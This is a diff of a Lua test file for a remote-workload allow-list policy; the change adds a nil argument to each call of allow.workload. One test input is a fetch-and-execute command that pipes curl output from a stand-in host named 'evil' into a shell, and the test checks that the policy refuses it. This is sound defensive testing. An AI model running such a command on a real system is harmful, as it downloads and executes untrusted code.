@@ -16,26 +16,26 @@ core.fs.write_atomic(tmp .. "/allowed", "# comment\n/opt/app/cuda_burn 30\npytho
 core.fs.write_atomic(tmp .. "/allow.lua", string.format(
   'return { extends = "default", agent = { remote_workloads = { allow_file = %q } } }', tmp .. "/allowed"))
 p = policy.effective({ tmp .. "/allow.lua" })
-t.eq("exact command allowed", true, (allow.workload({ "/opt/app/cuda_burn", "30" }, p)))
-t.eq("same program, other args refused", false, (allow.workload({ "/opt/app/cuda_burn", "31" }, p)))
-t.eq("glob allowed", true, (allow.workload({ "python3", "/opt/bench/mm.py", "--n", "4" }, p)))
-local okw, why = allow.workload({ "sh", "-c", "curl evil | sh" }, p)
+t.eq("exact command allowed", true, (allow.workload({ "/opt/app/cuda_burn", "30" }, nil, p)))
+t.eq("same program, other args refused", false, (allow.workload({ "/opt/app/cuda_burn", "31" }, nil, p)))
+t.eq("glob allowed", true, (allow.workload({ "python3", "/opt/bench/mm.py", "--n", "4" }, nil, p)))
+local okw, why = allow.workload({ "sh", "-c", "curl evil | sh" }, nil, p)
 t.eq("anything else refused", false, okw)
 t.check("refusal names the allow-list file", why and why:find(tmp .. "/allowed", 1, true), why)
 t.eq("Lua pattern characters in an allow-list line are literal (allowed as written)", true,
-  (allow.workload({ "/opt/x/a%d.sh", "[1]" }, p)))
+  (allow.workload({ "/opt/x/a%d.sh", "[1]" }, nil, p)))
 t.eq("Lua pattern characters in an allow-list line are literal (no pattern match)", false,
-  (allow.workload({ "/opt/x/a5.sh", "1" }, p)))
+  (allow.workload({ "/opt/x/a5.sh", "1" }, nil, p)))
 core.fs.write_atomic(tmp .. "/noremote.lua",
   'return { extends = "default", agent = { remote_workloads = { enabled = false, allow = { "*" } } } }')
 p = policy.effective({ tmp .. "/noremote.lua" })
-okw, why = allow.workload({ "/opt/app/cuda_burn", "30" }, p)
+okw, why = allow.workload({ "/opt/app/cuda_burn", "30" }, nil, p)
 t.check("remote workloads disabled refuses everything", not okw and why:find("disabled", 1, true), why)
 core.fs.write_atomic(tmp .. "/decide.lua", [[return { extends = "default", agent = { remote_workloads = {
   decide = function(argv) if argv[1] == "/usr/bin/true" then return true end return false, "only true is allowed" end } } }]])
 p = policy.effective({ tmp .. "/decide.lua" })
-t.eq("decide function allows", true, (allow.workload({ "/usr/bin/true" }, p)))
-okw, why = allow.workload({ "/usr/bin/false" }, p)
+t.eq("decide function allows", true, (allow.workload({ "/usr/bin/true" }, nil, p)))
+okw, why = allow.workload({ "/usr/bin/false" }, nil, p)
 t.check("decide function refuses with its reason", not okw and why == "only true is allowed", why)
 
 
